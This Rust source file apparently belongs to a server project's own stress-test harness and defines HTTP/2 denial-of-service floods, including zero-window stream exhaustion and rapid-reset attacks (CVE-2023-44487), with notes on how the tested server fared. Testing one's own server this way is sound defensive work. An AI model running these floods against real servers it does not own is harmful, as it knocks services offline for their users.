//! Streams: more than a server can hold, or over before it has noticed them.

use std::io;

use super::{Attack, flood};
use crate::hostile::{Hostile, h2};

pub const ATTACKS: &[Attack] = &[
    flood(
        "h2-streams",
        "Open streams without limit, with windows of zero, so that no response can be sent.",
        "one connection and 5.3 MB kill a server of 1 GiB",
        |client| Box::pin(streams(client, |_| "/media/film.mp4".to_owned())),
    ),
    flood(
        "h2-clips",
        "As h2-streams, for distinct clips of a title of two hours.",
        "not measured",
        |client| {
            Box::pin(streams(client, |stream| {
                let start = f64::from(stream) / 1e3;
                format!("/v/two-hours.mp4/play.mp4?tracks=video-1&start={start}")
            }))
        },
    ),
    Attack {
        clients: 400,
        ..flood(
            "h2-paused",
            "Ask for a film on 100 streams with windows of zero.",
            "not measured",
            |client| Box::pin(paused(client)),
        )
    },
    flood(
        "h2-rapid-reset",
        "Open streams and reset them at once (CVE-2023-44487).",
        "not closed",
        |client| Box::pin(resets(client, "/media/film.mp4")),
    ),
    flood(
        "h2-reset-listeners",
        "As h2-rapid-reset, of listeners to events.",
        "a reset of ?follow noticed after more than 8 s",
        |client| Box::pin(resets(client, "/api/events")),
    ),
    flood(
        "h2-reset-clips",
        "As h2-rapid-reset, of distinct clips of a title of two hours.",
        "not measured",
        |client| Box::pin(reset_clips(client)),
    ),
];

const WINDOW_ZERO: &[(u16, u32)] = &[(h2::INITIAL_WINDOW_SIZE, 0)];

async fn streams(client: Hostile, path: fn(u32) -> String) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&h2::opening(WINDOW_ZERO)).await?;
    let mut streams = h2::streams();
    connection
        .flood(move || {
            let stream = streams.next()?;
            Some(h2::get(stream, &path(stream)))
        })
        .await
}

async fn paused(client: Hostile) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&h2::opening(WINDOW_ZERO)).await?;
    for stream in h2::streams().take(100) {
        connection.send(&h2::get(stream, "/media/film.mp4")).await?;
    }
    connection.discard().await
}

async fn resets(client: Hostile, path: &'static str) -> io::Result<()> {
    reset_each(client, move |_| path.to_owned()).await
}

async fn reset_clips(client: Hostile) -> io::Result<()> {
    let number = client.number;
    reset_each(client, move |stream| {
        format!("/v/two-hours.mp4/play.mp4?tracks=video-1&start={}.{number}", stream % 7_000)
    })
    .await
}

async fn reset_each(client: Hostile, path: impl Fn(u32) -> String) -> io::Result<()> {
    let mut connection = client.connect().await?;
    connection.send(&h2::opening(&[])).await?;
    let mut streams = h2::streams();
    connection
        .flood(move || {
            let stream = streams.next()?;
            let reset = h2::frame(h2::RST_STREAM, 0, stream, &h2::CANCEL);
            Some([h2::get(stream, &path(stream)), reset].concat())
        })
        .await
}
